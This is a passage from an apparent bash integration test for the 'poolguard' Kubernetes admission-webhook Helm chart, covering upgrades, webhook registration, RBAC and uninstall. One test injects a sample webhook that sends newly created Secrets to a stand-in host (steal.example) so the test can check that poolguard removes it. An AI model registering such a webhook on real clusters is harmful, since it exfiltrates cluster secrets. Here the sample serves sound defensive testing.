    if [[ "$conditions" == "${conditions_expected[$kind]}" ]]; then ok "${name}: another manager's matchCondition survives helm upgrade beside the chart's (${conditions})"; else bad "${name}: matchConditions after upgrade: '${conditions}', expected '${conditions_expected[$kind]}'"; fi
done
deadline="$(kubectl -n "$ns" get deployment poolguard -o jsonpath='{.spec.template.spec.containers[0].args}')"
if grep -q '"--deadline-ms","6000"' <<<"$deadline"; then ok "upgrade set --deadline-ms 6000"; else bad "deployment args: ${deadline}"; fi

# --- validating.failurePolicy=Ignore lets unlabelled namespaces through, not labelled ones ------
expect "helm upgrade (validating.failurePolicy=Ignore)" \
    helm upgrade "$release" "$chart" -n "$ns" "${chart_mode[@]}" --set validating.failurePolicy=Ignore
expect "Ignore: pod in an unlabelled namespace is admitted while poolguard is down" run_pod plain p3
expect_not "Ignore: pod in a labelled namespace is still refused (mutating Fail)" \
    'failed calling webhook "mutate.poolguard.io"' run_pod team-a p3

# --- config.placement.unlabelledNamespaces=choose: unlabelled namespaces reach the mutating webhook
expect "helm upgrade (config.placement.unlabelledNamespaces=choose, validating.failurePolicy=Ignore)" \
    helm upgrade "$release" "$chart" -n "$ns" "${chart_mode[@]}" --set config.placement.unlabelledNamespaces=choose \
        --set config.placement.pools={general} --set validating.failurePolicy=Ignore
expect_not "choose: pod in an unlabelled namespace is sent to the mutating webhook (refused: no poolguard)" \
    'failed calling webhook "mutate.poolguard.io"' run_pod plain p5
expect "choose: pod in the release namespace is still never sent to poolguard" run_pod "$ns" p5
expect "choose: pod in kube-system is still never sent to poolguard" run_pod kube-system p5

# --- registration by poolguard (webhook.registration=poolguard, the default) ---------------------
expect "helm upgrade (back to the default values: webhook.registration=poolguard)" \
    helm upgrade "$release" "$chart" -n "$ns" --reset-values
for kind in mutatingwebhookconfiguration validatingwebhookconfiguration; do
    name="poolguard-${kind%%webhookconfiguration}"
    count="$(webhook_count "$kind" "$name")"
    if [[ "$count" == 0 ]]; then ok "${name}: no webhooks until poolguard registers them"; else bad "${name}: ${count} webhooks before poolguard registered any"; fi
done
expect "no poolguard serving: pod in labelled namespace team-a is admitted" run_pod team-a p6
can_i yes list endpointslices.discovery.k8s.io -n "$ns"
can_i no list endpointslices.discovery.k8s.io -n default
can_i no watch endpointslices.discovery.k8s.io -n "$ns"
can_i yes get mutatingwebhookconfigurations/poolguard-mutating
can_i yes patch validatingwebhookconfigurations/poolguard-validating
can_i no create mutatingwebhookconfigurations
can_i no patch validatingwebhookconfigurations/someone-else
# The webhooks the chart renders itself (webhook.registration=chart), with the caBundle left out:
# what poolguard must register.
# The API server's defaults filled in (a server-side dry run, under another name).
rendered_webhooks() { # kind_name -> its webhooks as rendered with registration=chart
    "$helm" template "$release" "$chart" -n "$ns" "${chart_mode[@]}" "$@" \
        --show-only templates/mutatingwebhookconfiguration.yaml \
        --show-only templates/validatingwebhookconfiguration.yaml |
        sed 's/^  name: poolguard-/  name: dry-run-poolguard-/' |
        "${POOLGUARD_CP_BIN}/kubectl" create --dry-run=server -o json -f - |
        jq -S --arg kind "$kind_name" '(.items // [.])[] | select(.kind == $kind) | .webhooks'
}
registered_webhooks() { # kind name
    kubectl get "$1" "$2" -o json | jq -S '.webhooks | map(.clientConfig |= del(.caBundle))'
}
read_deployment poolguard-controller
[[ "$(arg_value --register-webhooks)" == "${pg_dir}/webhooks/webhooks.yaml" ]] \
    || die "the controller does not run --register-webhooks /webhooks/webhooks.yaml: ${args[*]}"
start_poolguard "$csa_kubeconfig" controller
# Serving, but no ready endpoint behind the Service (no kubelet here): nothing is registered.
deadline=$((SECONDS + 30))
until grep -q 'waiting for a ready endpoint' "${state}/controller.log" || ((SECONDS >= deadline)); do sleep 0.5; done
sleep 3
if grep -q 'waiting for a ready endpoint' "${state}/controller.log" \
    && [[ "$(webhook_count mutatingwebhookconfiguration poolguard-mutating)$(webhook_count validatingwebhookconfiguration poolguard-validating)" == 00 ]]; then
    ok "poolguard serves but registers nothing while its Service has no ready endpoint"
else
    bad "registration without a ready endpoint: $(grep -m2 -E 'endpoint|regist' "${state}/controller.log" || echo 'nothing logged')"
fi
# What the EndpointSlice controller writes once a poolguard pod is ready (no controller runs here;
# nothing ever connects to the documentation address).
kubectl apply -f - >/dev/null <<YAML
apiVersion: discovery.k8s.io/v1
kind: EndpointSlice
metadata:
  name: poolguard-install-test
  namespace: ${ns}
  labels:
    kubernetes.io/service-name: poolguard
    endpointslice.kubernetes.io/managed-by: install-test
addressType: IPv4
endpoints:
  - addresses: ["192.0.2.10"]
    conditions: {ready: true}
ports:
  - {name: https, port: 8443, protocol: TCP}
YAML
registered() {
    [[ "$(webhook_count mutatingwebhookconfiguration poolguard-mutating)" != 0 \
        && "$(webhook_count validatingwebhookconfiguration poolguard-validating)" != 0 ]]
}
deadline=$((SECONDS + 30))
until registered || ((SECONDS >= deadline)); do sleep 0.5; done
if registered && grep -q 'webhooks registered' "${state}/controller.log"; then
    ok "poolguard registered its webhooks once the Service had a ready endpoint"
else
    tail -n 20 "${state}/controller.log" >&2
    bad "poolguard did not register its webhooks within 30s of a ready endpoint"
fi
bundle="$(kubectl -n "$ns" get secret poolguard-tls -o jsonpath='{.data.ca\.crt}')"
for kind_name in MutatingWebhookConfiguration ValidatingWebhookConfiguration; do
    kind="${kind_name,,}"
    name="poolguard-${kind%%webhookconfiguration}"
    if registered_webhooks "$kind" "$name" | diff -u <(rendered_webhooks) - >"$cmd_out"; then
        ok "${name}: the registered webhooks are exactly the ones the chart renders with webhook.registration=chart"
    else
        bad "${name}: registered webhooks differ from the chart's: $(head -n 30 "$cmd_out")"
    fi
    got="$(kubectl get "$kind" "$name" -o json | jq -r '.webhooks[].clientConfig.caBundle' | sort -u)"
    if [[ -n "$bundle" && "$got" == "$bundle" ]]; then ok "${name}: registered with the Secret's CA bundle in every webhook"; else bad "${name}: caBundle '${got:0:30}...'"; fi
    managers="$(kubectl get "$kind" "$name" --show-managed-fields -o json | jq -r '[.metadata.managedFields[].manager] | join(" ")')"
    if [[ " ${managers} " == *" poolguard-registration "* ]]; then ok "${name}: written by field manager poolguard-registration (${managers})"; else bad "${name}: managers ${managers}"; fi
done
expect_not "registered: pod in labelled namespace team-a is sent to poolguard (refused: the Service is not reachable here)" \
    'failed calling webhook "mutate.poolguard.io"' run_pod team-a p7
expect "registered: pod in the release namespace is still never sent to poolguard" run_pod "$ns" p7
# An upgrade changes the webhooks' ConfigMap; poolguard applies the new webhooks (the kubelet
# would update the mounted file: here the test writes it).
expect "helm upgrade (timeoutSeconds 5 -> 8)" helm upgrade "$release" "$chart" -n "$ns" --set webhook.timeoutSeconds=8
kubectl -n "$ns" get configmap poolguard-webhooks -o json | jq -j '.data["webhooks.yaml"]' >"${pg_dir}/webhooks/webhooks.yaml"
timeouts() { kubectl get validatingwebhookconfiguration poolguard-validating -o jsonpath='{.webhooks[*].timeoutSeconds}'; }
deadline=$((SECONDS + 45))
until [[ "$(timeouts)" =~ ^8( 8)*$ ]] || ((SECONDS >= deadline)); do sleep 1; done
if [[ "$(timeouts)" =~ ^8( 8)*$ ]] && [[ "$(webhook_count mutatingwebhookconfiguration poolguard-mutating)" != 0 ]]; then
    ok "after helm upgrade poolguard applied the new webhooks (timeoutSeconds $(timeouts)); helm kept the registered ones meanwhile"
else
    bad "after helm upgrade: timeoutSeconds '$(timeouts)', mutating webhooks $(webhook_count mutatingwebhookconfiguration poolguard-mutating)"
fi
for kind_name in MutatingWebhookConfiguration ValidatingWebhookConfiguration; do
    kind="${kind_name,,}"
    name="poolguard-${kind%%webhookconfiguration}"
    if registered_webhooks "$kind" "$name" | diff -u <(rendered_webhooks --set webhook.timeoutSeconds=8) - >"$cmd_out"; then
        ok "${name}: after the upgrade, the registered webhooks are the chart's new ones"
    else
        bad "${name}: after the upgrade, registered webhooks differ from the chart's: $(head -n 30 "$cmd_out")"
    fi
done
# The list of webhooks is poolguard's alone. The serving pods' token cannot add one; a webhook
# someone adds with a token that may patch the configuration (here: an admin's) is removed at the
# controller's next registration pass, logged with where it sent requests, and counted.
foreign='{"name": "steal.example.com", "clientConfig": {"url": "https://steal.example/secrets"}, "rules": [{"operations": ["CREATE"], "apiGroups": [""], "apiVersions": ["v1"], "resources": ["secrets"]}], "sideEffects": "None", "admissionReviewVersions": ["v1"], "failurePolicy": "Ignore"}'
expect_not "the serving pods' token cannot add a webhook to the validating configuration" forbidden \
    kubectl --kubeconfig "$sa_kubeconfig" patch validatingwebhookconfiguration poolguard-validating --type json \
    -p "[{\"op\": \"add\", \"path\": \"/webhooks/-\", \"value\": ${foreign}}]"
expect "an admin adds a webhook on Secrets with a foreign url" \
    kubectl patch validatingwebhookconfiguration poolguard-validating --type json \
    -p "[{\"op\": \"add\", \"path\": \"/webhooks/-\", \"value\": ${foreign}}]"
has_foreign() { kubectl get validatingwebhookconfiguration poolguard-validating -o json | jq -e '[.webhooks[].name] | index("steal.example.com") != null' >/dev/null; }
deadline=$((SECONDS + 45))
while has_foreign && ((SECONDS < deadline)); do sleep 1; done
if ! has_foreign && grep -q 'removed a webhook poolguard did not write' "${state}/controller.log" \
    && grep 'removed a webhook poolguard did not write' "${state}/controller.log" | grep -q 'https://steal.example/secrets'; then
    ok "the foreign webhook was removed within $((45 - (deadline - SECONDS))) s and logged with its url"
else
    bad "the foreign webhook is still registered or was not logged: $(grep -m2 -E 'removed|foreign' "${state}/controller.log" || echo 'nothing logged')"
fi
removed="$(curl -sf "http://127.0.0.1:${metrics_port}/metrics" | awk '$1 == "poolguard_foreign_webhooks_removed_total" {print $2}')"
if [[ "$removed" == 1 ]]; then ok "poolguard_foreign_webhooks_removed_total 1"; else bad "poolguard_foreign_webhooks_removed_total '${removed}'"; fi
kind_name=ValidatingWebhookConfiguration
if registered_webhooks validatingwebhookconfiguration poolguard-validating | diff -u <(rendered_webhooks --set webhook.timeoutSeconds=8) - >"$cmd_out"; then
    ok "poolguard-validating: after the removal, the registered webhooks are exactly the chart's"
else
    bad "poolguard-validating: after the removal, registered webhooks differ from the chart's: $(head -n 30 "$cmd_out")"
fi
kill -TERM "$pg_pid"
wait "$pg_pid" || true
pg_pid=""

# --- uninstall -----------------------------------------------------------------------------------
expect "helm uninstall" helm uninstall "$release" -n "$ns"
left="$(kubectl get mutatingwebhookconfigurations,validatingwebhookconfigurations -o name | grep poolguard || true)"
if [[ -z "$left" ]]; then ok "no webhook configuration left after uninstall"; else bad "left behind: ${left}"; fi
expect "pods in team-a are admitted again after uninstall" run_pod team-a p4
expect "the Secret poolguard created at run time stays (documented)" kubectl -n "$ns" get secret poolguard-tls
left="$(kubectl get clusterroles,clusterrolebindings -o name | grep -E '/poolguard$' || true)"
if [[ -z "$left" ]]; then ok "no cluster-scoped RBAC left after uninstall"; else bad "left behind: ${left}"; fi
for crd in policyreports.wgpolicyk8s.io clusterpolicyreports.wgpolicyk8s.io reports.openreports.io clusterreports.openreports.io; do
    expect "CRD ${crd} stays after uninstall (keep; another owner's untouched)" kubectl get crd "$crd"
done

echo "${passed} passed, ${failed} failed"
(( failed == 0 ))
